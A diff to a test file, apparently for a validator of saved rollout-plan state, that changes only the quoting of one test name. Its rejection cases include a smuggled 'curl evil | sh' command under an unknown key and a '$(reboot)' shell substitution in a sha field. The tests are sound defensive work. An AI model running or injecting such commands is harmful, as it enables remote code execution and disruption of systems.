@@ -14,7 +14,7 @@ test.each<[string, unknown, RegExp]>([
   ['another kind', { ...saved(), kind: 'something-else' }, /kind/],
   ['an unknown key (a command smuggled in)', { ...saved(), rollback: 'curl evil | sh' }, /rollback/],
   ['a step past the plan', saved({ step: 9 }), /step 9 is past the plan's 3 steps/],
-  ['a weight that is not the step\'s', saved({ weight: 60 }), /weight 60 is not step 2's 25/],
+  ["a weight that is not the step's", saved({ weight: 60 }), /weight 60 is not step 2's 25/],
   ['a sha with shell in it', saved({ sha: '$(reboot)' }), /sha/],
   ['a config hash that is not sha256', saved({ configHash: 'md5:abc' }), /configHash/],
   ['a weight over 100', { ...saved(), weight: 250 }, /weight/],
